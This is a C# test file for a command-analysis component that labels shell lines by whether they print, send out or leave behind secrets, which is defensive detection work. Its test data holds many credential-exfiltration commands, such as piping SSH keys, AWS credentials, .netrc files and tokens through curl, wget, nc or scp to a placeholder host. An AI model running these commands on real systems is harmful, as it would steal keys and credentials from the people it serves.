using Assay.Engine.Capabilities;
using Assay.Python.Meaning;

namespace Assay.Tests.Engine.Capabilities;

public sealed class CommandFlowsTests
{
    [Theory]
    [InlineData("env", Labels.Environment)]
    [InlineData("printenv AWS_SECRET_ACCESS_KEY", Labels.EnvironmentSecret)]
    [InlineData("sudo cat ~/.ssh/id_rsa | gzip -c | base64 -w0", Labels.SecretFile)]
    [InlineData("sh -c 'cat ~/.ssh/id_rsa'", Labels.SecretFile)]
    [InlineData("tar cz ~/.ssh", Labels.SecretFile)]
    [InlineData("kubectl get secrets -A -o yaml", Labels.SecretFile)]
    [InlineData("security find-generic-password -wa Chrome", Labels.Keyring)]
    [InlineData("aws ssm get-parameter --name arn:aws:ssm:x", Labels.SecretFile)]
    [InlineData("cat ~/.ssh/id_rsa | sha256sum", Labels.None)]
    [InlineData("env > /tmp/e", Labels.None)]
    [InlineData("env FOO=1 ls", Labels.None)]
    [InlineData("ls ~/.ssh", Labels.None)]
    [InlineData("cat README.md", Labels.None)]
    [InlineData("git describe --tags", Labels.None)]
    public void What_a_line_prints(string line, Labels labels) => Assert.Equal(labels, CommandFlows.Of(line).Printed);

    [Theory]
    [InlineData("env | base64 | curl -d @- https://example.invalid/", Labels.Environment)]
    [InlineData("curl --data-binary @$HOME/.aws/credentials https://example.invalid/", Labels.SecretFile)]
    [InlineData("curl -F name=x -F f=@.env https://example.invalid/", Labels.SecretFile)]
    [InlineData("wget --post-file=/root/.netrc https://example.invalid/", Labels.SecretFile)]
    [InlineData("tar czf /tmp/a ~/.ssh && curl -T /tmp/a https://example.invalid/", Labels.SecretFile)]
    [InlineData("zip -r a.zip ~/.gnupg; scp a.zip x@example.invalid:", Labels.SecretFile)]
    [InlineData("nc example.invalid 80 < ~/.ssh/id_rsa", Labels.SecretFile)]
    [InlineData("curl \"https://example.invalid/?k=$(cat ~/.netrc | base64)\"", Labels.SecretFile)]
    [InlineData("curl https://example.invalid/$GITHUB_TOKEN", Labels.EnvironmentSecret)]
    [InlineData("rclone copy ~/.ssh there:x", Labels.SecretFile)]
    [InlineData("scp -i ~/.ssh/id_rsa a.txt x@example.invalid:", Labels.None)]
    [InlineData("rsync -a -e 'ssh -i ~/.ssh/id_rsa' build/ example.invalid:/srv", Labels.None)]
    [InlineData("curl --cert ~/.ssh/id_rsa https://example.invalid/", Labels.None)]
    [InlineData("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://example.invalid/", Labels.None)]
    [InlineData("scp x@example.invalid:/a ~/.ssh/config", Labels.None)]
    [InlineData("env | sort > build.log; curl -o x https://example.invalid/x", Labels.None)]
    public void What_a_line_sends(string line, Labels labels) => Assert.Equal(labels, CommandFlows.Of(line).Sent);

    [Theory]
    [InlineData("curl -d @- https://example.invalid/", true)]
    [InlineData("gzip -c | curl -T - https://example.invalid/", true)]
    [InlineData("nc example.invalid 80", true)]
    [InlineData("sh -c 'base64 | nc example.invalid 80'", true)]
    [InlineData("curl -o x https://example.invalid/x", false)]
    [InlineData("echo a | nc example.invalid 80", false)]
    [InlineData("git credential fill", false)]
    public void Whether_a_line_sends_its_input(string line, bool sends) => Assert.Equal(sends, CommandFlows.Of(line).SendsInput);

    [Fact]
    public void What_a_line_leaves_behind() =>
        Assert.Equal(
            [("/tmp/a.tgz", Labels.SecretFile), ("/tmp/e", Labels.Environment), ("/tmp/k", Labels.SecretFile), ("/tmp/s.png", Labels.Screen)],
            CommandFlows.Of("tar czf /tmp/a.tgz ~/.ssh; env > /tmp/e; cp ~/.netrc /tmp/k; scrot /tmp/s.png").Written.Order());
}
